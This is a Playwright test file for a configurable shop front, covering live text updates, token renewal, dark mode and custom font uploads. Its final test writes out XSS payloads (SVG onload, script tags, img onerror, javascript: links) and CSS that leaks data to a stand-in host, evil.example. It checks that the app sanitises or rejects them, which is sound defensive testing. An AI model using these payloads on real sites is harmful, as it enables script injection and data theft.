// A programme changes while its pages are open, and what its operator wrote can do no harm.
import { readFileSync } from 'node:fs'
import type { Page } from '@playwright/test'
import { aProgramme } from '../support/programme.ts'
import { expect, test } from '../support/test.ts'
import { comesAlive, visitorOf } from '../support/visitor.ts'

/** A page looks every half minute, which its own clock lets pass at once. */
const halfAMinutePasses = (page: Page): Promise<void> => page.clock.fastForward(31_000)

/** The first half minute may be over before the page has begun to look. */
const comesToShow = (page: Page, text: string): Promise<void> =>
  expect
    .poll(async () => {
      await halfAMinutePasses(page)
      return page.getByText(text).isVisible()
    })
    .toBe(true)

test.describe('an open page', () => {
  test('shows a corrected text within a minute, and keeps what is typed', async ({ page, baseURL }) => {
    const shop = await aProgramme(baseURL ?? '')
    const { say } = visitorOf(page, shop.id, 'fr')
    await page.clock.install()
    await page.goto(shop.address())
    await comesAlive(page)
    await page.getByRole('combobox', { name: say('search.label') }).fill('x')
    await shop.change({ texts: { fr: { 'home.lead': 'Un texte corrigé' } }, config: { appName: 'Corrigé' } })
    await comesToShow(page, 'Un texte corrigé')
    await expect(page.getByRole('banner').getByRole('link', { name: 'Corrigé' })).toBeVisible()
    await expect(page.getByRole('combobox', { name: say('search.label') })).toHaveValue('x')
    await shop.change({ texts: { fr: { 'home.lead': 'Corrigé encore' } }, config: { appName: 'Deux fois' } })
    await comesToShow(page, 'Corrigé encore')
    await expect(page.getByRole('banner').getByRole('link', { name: 'Deux fois' })).toBeVisible()
  })

  test('whose token was ended takes the new one up, and goes on with what is typed', async ({ page, baseURL }) => {
    const shop = await aProgramme(baseURL ?? '')
    const { say } = visitorOf(page, shop.id, 'fr')
    const answers: number[] = []
    let refuse: () => void = () => undefined
    const refused = new Promise<void>((resolve) => (refuse = resolve))
    page.on('response', (reply) => {
      if (reply.url().includes('/order-api/v4/product')) answers.push(reply.status())
      if (reply.status() === 401) refuse()
    })
    // It hears of the new one by that refusal, not by a look that happens to come before it.
    await page.route('**/revision', async (route) => {
      await refused
      await route.continue()
    })
    await page.goto(shop.address())
    await comesAlive(page)
    await shop.endToken()
    await page.getByRole('combobox', { name: say('search.label') }).fill('iphone 13')
    await expect(page.getByRole('option', { name: 'iPhone 13' }).first()).toBeVisible()
    expect([answers[0], answers.at(-1)]).toEqual([401, 200])
  })

  test('of a programme that is gone says so within a minute', async ({ page, baseURL }) => {
    const shop = await aProgramme(baseURL ?? '')
    await page.clock.install()
    await page.goto(shop.address())
    await comesAlive(page)
    await shop.remove()
    await halfAMinutePasses(page)
    // A page that had not begun to look by then does so in the other half.
    await page.waitForURL('/404', { timeout: 5_000 }).catch(() => halfAMinutePasses(page))
    await expect(page).toHaveURL('/404')
  })
})

test.describe('dark, for who chose it,', () => {
  test('is there before anything is painted', async ({ page, baseURL }) => {
    const shop = await aProgramme(baseURL ?? '')
    await page.goto(shop.address())
    await page.evaluate(() => localStorage.setItem('scheme', 'dark'))
    const first: string[] = []
    await page.exposeFunction('tell', (scheme: string) => first.push(scheme))
    await page.addInitScript(() => {
      new MutationObserver((_, observer) => {
        if (document.body === null) return
        observer.disconnect()
        ;(window as unknown as { tell: (scheme: string) => void }).tell(
          document.documentElement.dataset['scheme'] ?? '',
        )
      }).observe(document, { childList: true, subtree: true })
    })
    await page.reload()
    await expect.poll(() => first).toEqual(['dark'])
  })
})

test.describe('a font of its own', () => {
  const font = new Uint8Array(
    readFileSync(new URL('../../demo/affiliates/brightshop/assets/font.woff2', import.meta.url)),
  )

  test('is worn by the page, and nothing moves when it comes late', async ({ page, baseURL }) => {
    const shop = await aProgramme(baseURL ?? '')
    await shop.wear({ bodyFont: await shop.upload('font', 'own.woff2', font), headingTypeface: null })
    await page.addInitScript(() => {
      const moved = { sum: 0 }
      Object.assign(window, { moved })
      new PerformanceObserver((list) => {
        for (const entry of list.getEntries()) moved.sum += (entry as unknown as { value: number }).value
      }).observe({ type: 'layout-shift', buffered: true })
    })
    let letIn: () => void = () => undefined
    const held = new Promise<void>((resolve) => (letIn = resolve))
    await page.route('**/config-api/v1/assets/*', async (route) => {
      if (route.request().resourceType() === 'font') await held
      await route.continue()
    })
    await page.goto(shop.address(), { waitUntil: 'commit' })
    const heading = page.getByRole('heading', { level: 1 })
    await expect(heading).toBeVisible()
    const isThere = () =>
      page.evaluate(() =>
        [...document.fonts].some(({ status, family }) => status === 'loaded' && /theme-body"?$/.test(family)),
      )
    expect(await isThere()).toBe(false)
    letIn()
    await expect.poll(isThere).toBe(true)
    await expect(heading).toHaveCSS('font-family', /^"?theme-body"?,/)
    await page.waitForLoadState('networkidle')
    expect(await page.evaluate(() => (window as unknown as { moved: { sum: number } }).moved.sum)).toBeLessThan(0.02)
  })

  test('must be one, and small', async ({ baseURL }) => {
    const shop = await aProgramme(baseURL ?? '')
    await expect(shop.upload('font', 'own.woff2', font.slice(0, 900))).rejects.toThrow('asset-refused')
    await expect(shop.upload('font', 'own.woff2', new Uint8Array(200_001))).rejects.toThrow('larger than 200 kB')
  })
})

test('hostile words, drawings and styles do nothing', async ({ page, baseURL }) => {
  const shop = await aProgramme(baseURL ?? '')
  const svg =
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" onload="alert(1)"><script>alert(1)</script><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></body></foreignObject><circle r="4"/></svg>'
  const css =
    '@import "https://evil.example/x.css"; input[value^="a"]{background:url(https://evil.example/a)} body{background:url("https://evil.example/b")} h1{color:rgb(1, 2, 3)}'
  const logo = await shop.upload('logo', 'logo.svg', svg)
  const sheet = await shop.upload('stylesheet', 'own.css', css)
  const hostile = '<img src=x onerror=alert(1)><script>alert(1)</script><a href="javascript:alert(1)">x</a>'
  await expect(shop.change({ texts: { fr: { 'home.lead': `Bienvenue ${hostile}` } } })).rejects.toThrow('plain-words')
  await expect(shop.wear({ light: { ink: 'red;} body{display:none' } })).rejects.toThrow('/theme/light/ink')
  await expect(shop.wear({ bodyFont: logo })).rejects.toThrow('/theme/bodyFont')
  await shop.change({
    config: {
      appName: hostile.slice(0, 60),
      logo: { light: `asset:${logo}` },
      carousel: [{ title: { fr: hostile }, text: { fr: `Bonjour ${hostile}` } }],
      additionalResources: [{ kind: 'stylesheet', asset: sheet }],
    },
    texts: { fr: { 'terms.legal': `Majeur ${hostile}` } },
  })
  page.on('dialog', () => {
    throw new Error('Something ran')
  })
  await page.goto(shop.address())
  await expect(page.getByRole('heading', { level: 1 })).toHaveCSS('color', 'rgb(1, 2, 3)')
  await expect(page.getByText('Bonjour', { exact: false }).first()).toBeVisible()
  expect(await page.locator('[onerror], [onload], a[href^="javascript"], img[src="x"]').count()).toBe(0)
  const drawing = await (await page.request.get(`/config-api/v1/assets/${logo}`)).text()
  expect(drawing).toBe('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><circle r="4"></circle></svg>')
})
